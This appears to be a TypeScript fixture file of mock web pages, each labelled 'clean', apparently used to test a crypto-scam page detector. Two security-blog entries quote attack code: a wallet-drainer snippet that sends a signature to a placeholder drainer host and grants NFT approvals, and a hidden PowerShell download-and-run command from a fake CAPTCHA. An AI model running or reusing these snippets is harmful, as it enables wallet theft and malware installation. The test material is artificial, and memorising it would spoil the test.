import { htmlRoute, type Entry } from '../entry.js';
import { doc, footer, honestConnect } from '../parts/zw-kit.js';

export const entries: Entry[] = [
  {
    id: 'zw-ok-blog-drainer-analysis',
    label: 'clean',
    kind: 'security-blog',
    url: 'https://blog.scamsniffer.io/inferno-drainer-permit2-analysis/',
    body: doc('Inside a Permit2 drainer kit — ScamSniffer', `
<article class="wrap" style="max-width:760px;padding:40px 20px"><h1>Inside a Permit2 drainer kit</h1><p>The kit we analysed lures victims with a fake "revoke" page, then asks for a single PermitBatch signature:</p>
<pre style="background:#f5f5f5;padding:12px;font-size:12px">const sig = await ethereum.request({ method: "eth_signTypedData_v4", params: [acc, JSON.stringify(permitBatch)] });
await fetch("https://api.&lt;drainer&gt;/v1/submit", { method: "POST", body: JSON.stringify({ owner: acc, sig }) });
// then: setApprovalForAll(operator, true) for every NFT collection
ethereum.request({ method: "eth_sendTransaction", params: [{ to: nft, data: "0xa22cb465" + pad(op) + pad(1) }] });</pre>
<p>Indicators: <code>0xa22cb465</code> calls right after connect, unlimited <code>uint160</code> amounts, and spenders that are fresh EOAs.</p></article>`),
  },
  {
    id: 'zw-ok-blog-clickfix-traders',
    label: 'clean',
    kind: 'security-blog',
    url: 'https://www.binance.com/en/square/post/clickfix-warning-traders',
    body: doc('Security alert: fake "verify you are human" pages target traders | Binance Square', `
<article class="wrap" style="max-width:760px;padding:40px 20px"><h1>Fake CAPTCHA pages are targeting traders</h1><p>Our security team has seen fake Cloudflare checks on signal channels and chart sites. They copy a command like this to your clipboard and ask you to press Win+R, Ctrl+V, Enter:</p>
<pre style="background:#181a20;color:#f0b90b;padding:12px">powershell -w hidden -nop -c "iex (iwr -UseBasicParsing hxxps://cdn-example[.]pro/v.ps1)"</pre>
<p>No real CAPTCHA asks you to run anything. If you already did, disconnect from the internet, move funds from a clean device and reset your passwords.</p></article>`),
  },
  {
    id: 'zw-ok-tax-tool-koinly',
    label: 'clean',
    kind: 'crypto-tax-tool',
    url: 'https://koinly.io/integrations/binance/',
    body: doc('Binance Tax Reporting | Koinly', `
<div class="wrap" style="padding:40px 20px"><h1>Binance taxes made easy</h1><p>Connect Binance with a read-only API key or upload your CSV export. Koinly calculates capital gains, income and your tax report for 20+ countries.</p>
<form action="/api/import" method="post" enctype="multipart/form-data" style="border:1px dashed #aaa;padding:20px;border-radius:10px"><label>API key (read-only)</label><input name="api_key" style="width:100%;padding:10px"><label>Secret</label><input name="api_secret" type="password" style="width:100%;padding:10px"><p>or <input type="file" name="csv" accept=".csv"></p><button style="padding:10px 20px;background:#3b5bdb;color:#fff;border:0">Import</button></form>
<p style="font-size:13px;color:#666">Never enable withdrawal or trading permissions on keys you share with any tool.</p></div>`),
  },
  {
    id: 'zw-ok-moonpay-card-checkout',
    label: 'clean',
    kind: 'checkout-card-form',
    url: 'https://buy.moonpay.com/checkout',
    body: doc('MoonPay — Buy crypto', `
<main style="max-width:420px;margin:40px auto;border-radius:16px;box-shadow:0 4px 24px rgba(0,0,0,.08);padding:24px"><h2>Buy ETH</h2><p>You pay €150.00 · You get ≈ 0.0583 ETH</p>
<form method="post" action="/api/v3/transactions"><input name="cardholder" placeholder="Name on card" autocomplete="cc-name" style="width:100%;padding:12px;margin:4px 0"><input name="cardNumber" placeholder="Card number" autocomplete="cc-number" style="width:100%;padding:12px;margin:4px 0"><div style="display:flex;gap:8px"><input name="exp" placeholder="MM/YY" autocomplete="cc-exp" style="flex:1;padding:12px"><input name="cvc" placeholder="CVC" autocomplete="cc-csc" style="flex:1;padding:12px"></div>
<input name="walletAddress" placeholder="Your ETH wallet address" style="width:100%;padding:12px;margin:4px 0"><button style="width:100%;padding:14px;background:#7d00ff;color:#fff;border:0;border-radius:12px">Continue</button></form>
<p style="font-size:12px;color:#888">Payments are processed with 3-D Secure. MoonPay USA LLC, licensed money transmitter.</p></main>`),
  },
  {
    id: 'zw-ok-charity-crypto-donation',
    label: 'clean',
    kind: 'charity-donation',
    url: 'https://www.savethechildren.org/us/ways-to-help/ways-to-give/cryptocurrency-donations',
    body: doc('Donate Cryptocurrency | Save the Children', `
<div class="wrap" style="padding:40px 20px;max-width:800px"><h1>Donate cryptocurrency</h1><p>Save the Children accepts Bitcoin, Ether and 80+ other cryptocurrencies through The Giving Block. Your donation may be tax-deductible and you will receive a receipt by email.</p>
<div style="border:1px solid #ddd;border-radius:10px;padding:20px"><label>Select cryptocurrency</label><select><option>Bitcoin (BTC)</option><option>Ethereum (ETH)</option><option>USD Coin (USDC)</option></select><label style="display:block;margin-top:10px">Amount</label><input style="padding:10px"><button style="display:block;margin-top:12px;padding:12px 20px;background:#da291c;color:#fff;border:0">Get donation address</button></div>
<p style="font-size:13px">Save the Children Federation, Inc. is a 501(c)(3) nonprofit. EIN 06-0726487.</p></div>`),
  },
  {
    id: 'zw-ok-optimism-airdrop-claim',
    label: 'clean',
    kind: 'legit-airdrop-claim',
    url: 'https://app.optimism.io/airdrops',
    body: doc('Airdrops | Optimism', `
<main class="wrap" style="padding:40px 20px;max-width:720px"><h1>Check your OP airdrop eligibility</h1><p>Enter an address or ENS name to see which airdrops it qualified for. Checking eligibility is read-only and does not require a signature.</p>
<input id="ad" placeholder="0x… or name.eth" style="width:100%;padding:14px;border:1px solid #ccc;border-radius:10px"><button id="ck" style="margin-top:10px;padding:12px 20px;background:#ff0420;color:#fff;border:0;border-radius:10px">Check</button>
<button id="cw" style="margin-left:8px;padding:12px 20px;border:1px solid #ccc;border-radius:10px;background:#fff">Connect wallet</button><p id="o"></p>
<p style="font-size:13px;color:#666">Airdrop 5 claims have ended. Optimism will never DM you about an airdrop.</p></main>
<script>document.getElementById("ck").onclick=function(){fetch("/api/airdrops?address="+encodeURIComponent(document.getElementById("ad").value)).then(function(r){return r.json()}).then(function(j){document.getElementById("o").textContent=j.eligible?"Eligible for "+j.amount+" OP":"Not eligible"})}</script>
${honestConnect('cw', 'o')}`),
    routes: { 'app.optimism.io/api/airdrops': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"eligible":false}' } },
  },
  {
    id: 'zw-ok-coingecko-coin',
    label: 'clean',
    kind: 'market-data',
    url: 'https://www.coingecko.com/ko/코인/bitcoin',
    body: doc('비트코인 가격 - BTC 실시간 시세 | CoinGecko', `
<div class="wrap" style="padding:30px 20px"><h1>비트코인 (BTC)</h1><p style="font-size:30px">₩142,311,204 <span style="color:#16c784">▲ 1.4%</span></p>
<table style="font-size:14px"><tr><td>시가총액</td><td>₩2,826조</td></tr><tr><td>24시간 거래량</td><td>₩48조</td></tr><tr><td>유통 공급량</td><td>19,871,000 BTC</td></tr></table>
<p style="font-size:13px;color:#888">공식 웹사이트: bitcoin.org · 백서 · 탐색기: mempool.space, blockchair.com</p></div>`, { lang: 'ko' }),
  },
  {
    id: 'zw-ok-bithumb-notice-ko',
    label: 'clean',
    kind: 'exchange-notice',
    url: 'https://feed.bithumb.com/notice/1647201',
    body: doc('빗썸 공지사항 - 사칭 사이트 주의 안내', `
<article class="wrap" style="max-width:760px;padding:40px 20px"><h1>[안내] 빗썸 사칭 피싱 사이트 및 문자 주의</h1><p>최근 빗썸을 사칭하여 "출금 제한 해제", "보안 인증"을 요구하는 문자와 사이트가 확인되고 있습니다. 빗썸은 문자로 링크를 보내 로그인이나 인증번호 입력을 요구하지 않습니다.</p>
<p>공식 고객센터: 1661-5566 · 공식 도메인: bithumb.com</p></article>`, { lang: 'ko' }),
  },
];
